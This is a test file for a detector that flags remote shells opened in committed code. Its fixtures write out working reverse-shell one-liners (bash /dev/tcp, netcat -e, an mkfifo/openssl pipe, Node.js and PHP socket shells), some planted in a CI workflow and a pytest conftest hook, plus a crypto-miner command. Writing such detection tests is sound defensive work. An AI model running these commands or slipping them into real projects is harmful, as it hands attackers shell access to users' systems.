import detector from "../../../../src/engine/detectors/content/remote-shell-opened.ts";
import { strengthsOfPrograms } from "../run-programs.ts";

const DEVICE = ["/dev", "tcp"].join("/");

// Through the readers, as files stand in a commit: what counts is what a program does, not how it is spelled.
test.each([
  ["bash", { "a.sh": `bash -i >& ${DEVICE}/198.51.100.7/4444 0>&1\n` }, ["decisive"]],
  ["netcat", { "a.sh": "nc 198.51.100.7 4444 -e /bin/sh\n" }, ["decisive"]],
  ["netcat's other switch", { "a.sh": "nc -c bash 198.51.100.7 4444\n" }, ["decisive"]],
  [
    "a pipe with a name",
    { "a.sh": "mkfifo p; sh -i < p 2>&1 | openssl s_client -quiet -connect 198.51.100.7:443 > p\n" },
    ["decisive"],
  ],
  ["a terminal of old", { "a.sh": "telnet 198.51.100.7 4444 < p | sh | telnet 198.51.100.7 4445\n" }, ["decisive"]],
  [
    "a connection that is piped into a shell",
    {
      "a.js":
        "const net = require('net');\nconst sh = require('child_process').spawn('/bin/sh', []);\nconst c = net.connect(443, 'x.example');\nc.pipe(sh.stdin);\nsh.stdout.pipe(c);\n",
    },
    ["decisive"],
  ],
  [
    "a descriptor that is a connection",
    { "a.php": '<?php\n$s = fsockopen("198.51.100.7", 4444);\nexec("/bin/sh -i <&3 >&3 2>&3");\n' },
    ["decisive"],
  ],
  [
    "a step of a workflow",
    {
      ".github/workflows/a.yml": `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: bash -i > ${DEVICE}/198.51.100.7/443 0<&1 2>&1\n`,
    },
    ["decisive"],
  ],
  [
    "descriptors of a program that tests load",
    {
      "tests/conftest.py":
        "import os, pty, socket\n\ndef pytest_configure(config):\n    s = socket.create_connection(('198.51.100.7', 4444))\n    os.dup2(s.fileno(), 0)\n    pty.spawn('/bin/sh')\n",
    },
    ["strong"],
  ],
  ["a miner", { "run.sh": "./xmrig -o stratum+tcp://pool.example:3333\n" }, ["strong"]],
  ["a miner that is only named", { "src/a.ts": 'export const KNOWN = ["xmrig"];\n' }, []],
  ["a test", { "test/a.sh": `bash -i >& ${DEVICE}/198.51.100.7/4444 0>&1\n` }, ["medium"]],
  ["an interactive shell at a terminal", { "a.sh": "bash -i\n" }, []],
  [
    "a certificate that is shown",
    { "a.sh": "openssl s_client -connect db:443 < /dev/null | openssl x509 -noout\n" },
    [],
  ],
  ["a port that is asked for its greeting", { "a.sh": 'echo QUIT | telnet db 25 | grep "220 "\n' }, []],
  ["a probe of a port", { "a.sh": `timeout 1 bash -c "</dev/null > ${DEVICE}/db/5432"\n` }, []],
  ["netcat that waits for a port", { "a.sh": "nc -z db 5432\n" }, []],
  ["a comment", { "a.sh": `# bash -i >& ${DEVICE}/198.51.100.7/4444\n` }, []],
  ["a shell that runs a script", { "a.sh": "bash build.sh\n" }, []],
  ["a document that shows one", { "docs/a.md": "nc -e /bin/sh 198.51.100.7 4444\n" }, []],
] as const)("%s", async (_, files, expected) => {
  expect(await strengthsOfPrograms(detector, files)).toEqual(expected);
});
